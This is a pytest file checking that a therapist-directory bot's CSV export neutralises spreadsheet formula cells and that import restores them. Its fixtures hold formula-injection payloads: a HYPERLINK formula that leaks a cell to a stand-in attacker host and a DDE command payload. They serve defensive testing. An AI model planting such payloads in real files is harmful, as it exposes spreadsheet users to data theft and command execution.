"""Issue 14, point 6: the therapist CSV export wrote cells starting with =, +,
- or @ unchanged, which a spreadsheet runs as formulas. Exported cells are now
neutralised with a leading ' and the import takes exactly that off again, so
export -> import gives back the same directory (bot/storage/therapists.py)."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from db_backends import database_url, postgres_server, postgres_url, sqlite_url  # noqa: F401
from hypothesis import given
from hypothesis import strategies as st

from bot.staff import cli
from bot.storage.therapists import (
    DEMO_FILE,
    FORMULA_STARTS,
    DirectoryStore,
    dump_therapists,
    neutralise_formula,
    parse_therapist_text,
    read_therapist_file,
    restore_formula,
)

DEMO = read_therapist_file(DEMO_FILE)
# What an attacker (or a careless edit) could put in a directory file.
FORMULAS = dataclasses.replace(
    DEMO[0],
    name='=HYPERLINK("http://evil.example/?"&A1,"Anna")',
    bio="+cmd|' /C calc'!A0",
    licence_number="-2+3",
    licensing_body="@SUM(1+1)",
    locations=("=1+1", "Main St"),
)
# Text that really starts with a quote before a formula character: kept as it is.
QUOTED = dataclasses.replace(
    DEMO[1], name="'=already quoted", bio="'plain quote", licence_number="''-7"
)


def _cells(text: str):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_exported_cell_starts_a_formula():
    exported = dump_therapists([FORMULAS, QUOTED, *DEMO[2:]], "csv")
    for cell in _cells(exported):
        assert not cell.startswith(FORMULA_STARTS), cell
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Anna")'
    assert row["bio"] == "'+cmd|' /C calc'!A0"
    assert row["licence_number"] == "'-2+3" and row["licensing_body"] == "'@SUM(1+1)"
    assert row["locations"] == "'=1+1; Main St"


def test_export_then_import_gives_back_the_same_directory():
    profiles = [FORMULAS, QUOTED, *DEMO[2:]]
    again = parse_therapist_text(dump_therapists(profiles, "csv"), "csv")
    assert again == profiles


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''@x"])
def test_each_start_is_neutralised_and_restored(cell):
    exported = neutralise_formula(cell)
    assert exported.startswith("'") and restore_formula(exported) == cell


@given(st.text(max_size=30))
def test_restore_undoes_neutralise_exactly(cell):
    exported = neutralise_formula(cell)
    assert not exported.startswith(FORMULA_STARTS)
    assert restore_formula(exported) == cell


def test_through_the_staff_command_line(database_url, tmp_path, capsys):
    store = DirectoryStore(database_url)
    try:
        store.import_therapists([FORMULAS, QUOTED])
        before = store.list_therapists()
        path = tmp_path / "team.csv"
        assert (
            cli.main(
                [
                    "--database-url",
                    database_url,
                    "therapists",
                    "export",
                    "--format",
                    "csv",
                    str(path),
                ]
            )
            == 0
        )
        assert not any(cell.startswith(FORMULA_STARTS) for cell in _cells(path.read_text()))
        assert (
            cli.main(
                ["--database-url", database_url, "therapists", "import", str(path), "--replace"]
            )
            == 0
        )
        capsys.readouterr()
        assert store.list_therapists() == before
    finally:
        store.dispose()
